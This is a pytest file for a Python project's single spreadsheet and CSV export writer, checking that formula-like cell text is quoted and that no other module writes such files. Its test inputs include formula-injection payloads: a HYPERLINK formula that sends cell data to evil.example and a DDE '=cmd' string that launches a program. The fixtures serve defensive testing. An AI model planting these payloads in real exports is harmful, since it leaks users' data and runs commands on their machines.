"""The one spreadsheet and CSV writer: formula-like text is quoted, and nothing else in the
project writes a spreadsheet or CSV file."""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from gongzhi.core.exports import Workbook, csv_writer, safe_cell, unquote_cell

SRC = Path(__file__).resolve().parents[2] / "src" / "gongzhi"
WRITER = SRC / "core" / "exports.py"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example/?"&A2,"点击")',
            '\'=HYPERLINK("http://evil.example/?"&A2,"点击")',
        ),
        ("+8613812345678", "'+8613812345678"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("张三", "张三"),
        ("13812345678", "13812345678"),
        ("a=1", "a=1"),
        ("", ""),
        (None, None),
        (-1, -1),
        (3.5, 3.5),
        (Decimal("-2.5"), Decimal("-2.5")),
        (True, True),
        (dt.date(2026, 1, 2), dt.date(2026, 1, 2)),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize("text", ["=1+1", "-3号楼旁", "+86 138", "@x", "\tx", "plain", "'quoted"])
def test_unquote_undoes_safe_cell(text):
    assert unquote_cell(safe_cell(text)) == text


def test_csv_cells_are_quoted():
    stream = io.StringIO()
    writer = csv_writer(stream)
    writer.writerow(["张三", "=cmd|' /C calc'!A0", -1, "\r=1"])
    writer.writerows([["+1", "ok"]])
    assert stream.getvalue() == "张三,'=cmd|' /C calc'!A0,-1,\"'\r=1\"\r\n'+1,ok\r\n"


@pytest.mark.parametrize("write_only", [True, False])
def test_workbook_cells_are_strings_never_formulas(write_only):
    workbook = Workbook(write_only=write_only, notice="导出人：张三 & 李四", notice_row=True)
    sheet = workbook.sheet("居民登记", widths=(20, 10), freeze_header=True)
    sheet.write_row(["=1+1", "-1", -1, None], bold=True)
    sheet.write_row(["#N/A", "张三", 3.5, dt.date(2026, 1, 2), "+86 138"])
    second = workbook.sheet("说明")
    second.write_row(["@x"])
    book = openpyxl.load_workbook(io.BytesIO(workbook.save()))
    assert book.sheetnames == ["居民登记", "说明"]
    first = book["居民登记"]
    assert [(c.value, c.data_type) for c in first[2][:4]] == [
        ("'=1+1", "s"),
        ("'-1", "s"),
        (-1, "n"),
        (None, "n"),
    ]
    assert [(c.value, c.data_type) for c in first[3]] == [
        ("#N/A", "s"),
        ("张三", "s"),
        (3.5, "n"),
        (dt.datetime(2026, 1, 2), "d"),
        ("'+86 138", "s"),
    ]
    assert first["A2"].font.bold is True
    assert first["A3"].font.bold is False
    assert first.column_dimensions["A"].width == 20
    assert first.freeze_panes == "A3"
    for ws in book.worksheets:
        assert ws["A1"].value == "导出人：张三 & 李四"
        assert ws.oddHeader.center.text == "导出人：张三 && 李四"
        assert ws.oddFooter.center.text == "导出人：张三 && 李四 &P/&N"
    assert book["说明"]["A2"].value == "'@x"


# Writing a spreadsheet or CSV file anywhere but the one writer. Reading uploads goes
# through python-calamine and is not matched.
FORBIDDEN = re.compile(
    r"\bimport openpyxl\b|\bfrom openpyxl\b|\bxlsxwriter\b|\bcsv\.(?:Dict)?[wW]riter\(|"
    r"\b(?:ws|sheet|worksheet)\.append\(|\bcell\.value\s*=|\.cell\(\s*row="
)


def test_no_spreadsheet_or_csv_is_written_outside_the_one_writer():
    offenders = [
        f"{path.relative_to(SRC)}:{number}: {line.strip()}"
        for path in sorted(SRC.rglob("*.py"))
        if path != WRITER
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if FORBIDDEN.search(line)
    ]
    assert offenders == [], "write spreadsheets and CSV through gongzhi.core.exports"


def test_the_scan_would_catch_a_direct_writer():
    for line in [
        "import openpyxl",
        "from openpyxl import Workbook",
        "    ws.append([note])",
        "    sheet.append(row)",
        "cell.value = note",
        "w = csv.writer(response)",
        "w = csv.DictWriter(f, fields)",
        "sheet.cell(row=2, column=3, value=x)",
    ]:
        assert FORBIDDEN.search(line), line
    assert WRITER.exists()
    assert FORBIDDEN.search(WRITER.read_text(encoding="utf-8"))
